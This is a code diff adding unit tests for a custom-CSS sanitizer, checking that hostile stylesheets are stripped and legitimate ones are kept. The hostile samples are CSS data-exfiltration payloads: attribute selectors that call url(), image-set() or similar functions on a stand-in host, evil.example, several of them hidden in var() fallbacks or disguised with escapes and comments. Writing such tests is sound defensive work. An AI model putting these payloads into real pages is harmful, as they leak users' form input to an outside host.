@@ -95,3 +95,99 @@ describe('sanitizeCustomCss', () => {
     expect(sanitizeCustomCss(source).css).toBe('');
   });
 });
+
+describe('sanitizeCustomCss: var() fallbacks and what the parser leaves unread', () => {
+  const ownAsset = { isOwnAsset: (url: string) => url.startsWith('/assets/org/') };
+
+  it('reads a var() fallback as a value: no url() or image-set() hides in one', () => {
+    const hostile = [
+      'input[value^="a"] { background-image: var(--x, url(https://evil.example/a)) }',
+      'input[value^="b"] { background-image: var(--x, image-set("https://evil.example/b" 1x)) }',
+      'input[value^="c"] { background: var(--x, var(--y, url(https://evil.example/c))) }',
+      'input[value^="d"] { padding: calc(1px + var(--x, url(https://evil.example/d))) }',
+      'input[value^="e"] { background: linear-gradient(red, var(--x, url(https://evil.example/e))) }',
+      'input[value^="f"] { background: var(--x,/**/url(https://evil.example/f)) }',
+      'input[value^="g"] { background: var(/**/--x/**/,url(https://evil.example/g)) }',
+      'input[value^="h"] { background: var(--x, [url(https://evil.example/h)]) }',
+      'input[value^="i"] { background: var(--x, url(/assets/org/logo.png)) }',
+    ];
+    for (const source of hostile) {
+      expect({ source, ...sanitizeCustomCss(source) }).toMatchObject({ source, css: '' });
+      expect({ source, reasons: reasons(source) }).toEqual({ source, reasons: ['value'] });
+    }
+  });
+
+  it('refuses every function outside the list wherever it sits, escaped or split by a comment', () => {
+    const hostile = [
+      'p { background: image("https://evil.example/a") }',
+      'p { background: cross-fade(url(https://evil.example/b), red 50%) }',
+      'p { background: element(#secret) }',
+      'p { background: -webkit-image-set("https://evil.example/c" 1x) }',
+      'p { background: src("https://evil.example/d") }',
+      'p { background: var(--x, src("https://evil.example/e")) }',
+      'p { background: var(--x, -webkit-image-set("https://evil.example/f" 1x)) }',
+      'p { background: var(--x, cross-fade(red, blue)) }',
+      'p { background: var(--x, attr(data-secret url)) }',
+      'p { background: var(--x, u\\72l(https://evil.example/g)) }',
+      'p { background: var(--x, \\75 rl(https://evil.example/h)) }',
+      'p { background: var(--x, u/**/rl(https://evil.example/i)) }',
+      'p { background: v\\61r(--x, url(https://evil.example/j)) }',
+      'p { color: var(x, red) }',
+    ];
+    for (const source of hostile) {
+      expect({ source, css: sanitizeCustomCss(source).css }).toEqual({ source, css: '' });
+    }
+  });
+
+  it('refuses a fallback the parser cannot read as a value, and fallbacks nested past four', () => {
+    const source =
+      '.a { background: var(--x, {url(https://evil.example/a)}) }\n' +
+      '.b { color: var(--x, red !important) }\n' +
+      '.c { color: var(--x, red}\n.d { background: url(https://evil.example/d) }';
+    expect(sanitizeCustomCss(source).css).toBe('');
+    expect(reasons(source)).toEqual(['unparsable', 'unparsable', 'unparsable']);
+    const nested = (depth: number) => `.e { color: ${'var(--x, '.repeat(depth)}red${')'.repeat(depth)} }`;
+    expect(sanitizeCustomCss(nested(4)).css).toBe(
+      `${CUSTOM_CSS_SCOPE} .e{color:var(--x,var(--x,var(--x,var(--x,red))))}`,
+    );
+    expect(reasons(nested(5))).toEqual(['unparsable']);
+  });
+
+  it('removes selectors and at-rules the parser left unread', () => {
+    const source =
+      '::part(shell-header) .x, :unknown(body) .y, ::cue(p), .ok { color: red }\n' +
+      '@media (foo: url(https://evil.example/m)) { .a { color: red } }\n' +
+      '@supports (color: var(--x, url(https://evil.example/s))) { .b { color: red } }';
+    const { css, removed } = sanitizeCustomCss(source);
+    expect(css).toBe(`${CUSTOM_CSS_SCOPE} .ok{color:red}`);
+    expect(removed.map((removal) => [removal.reason, removal.line])).toEqual([
+      ['unparsable', 1],
+      ['unparsable', 1],
+      ['unparsable', 1],
+      ['unparsable', 2],
+      ['unparsable', 3],
+    ]);
+  });
+
+  it('keeps legitimate CSS: var() with a colour fallback, gradients, the firm’s own asset', () => {
+    const source =
+      '.hero { color: var(--brand, #0f766e); border-color: var(--a, var(--b, rgb(0 0 0 / 50%))) }\n' +
+      '.card { background: linear-gradient(90deg, var(--mantine-color-blue-6, navy), transparent) }\n' +
+      '.pad { padding: calc(1rem + var(--gap, 2px)); box-shadow: var(--shadow,) }\n' +
+      '.logo { background: url(/assets/org/logo.png) no-repeat, var(--hero, url(/assets/org/hero.png)) }\n' +
+      '@media (width >= 600px) { .hero { color: var(--brand, teal) } }';
+    const { css, removed } = sanitizeCustomCss(source, ownAsset);
+    expect(removed).toEqual([]);
+    expect(css).toBe(
+      [
+        `${CUSTOM_CSS_SCOPE} .hero{color:var(--brand,#0f766e);border-color:var(--a,var(--b,rgb(0 0 0/50%)))}`,
+        `${CUSTOM_CSS_SCOPE} .card{background:linear-gradient(90deg,var(--mantine-color-blue-6,navy),transparent)}`,
+        `${CUSTOM_CSS_SCOPE} .pad{padding:calc(1rem + var(--gap,2px));box-shadow:var(--shadow,)}`,
+        `${CUSTOM_CSS_SCOPE} .logo{background:url(/assets/org/logo.png)no-repeat,var(--hero,url(/assets/org/hero.png))}`,
+        `@media (width>=600px){${CUSTOM_CSS_SCOPE} .hero{color:var(--brand,teal)}}`,
+      ].join('\n'),
+    );
+    // Served as stored: the second pass changes nothing.
+    expect(sanitizeCustomCss(css, ownAsset)).toEqual({ css, removed: [] });
+  });
+});
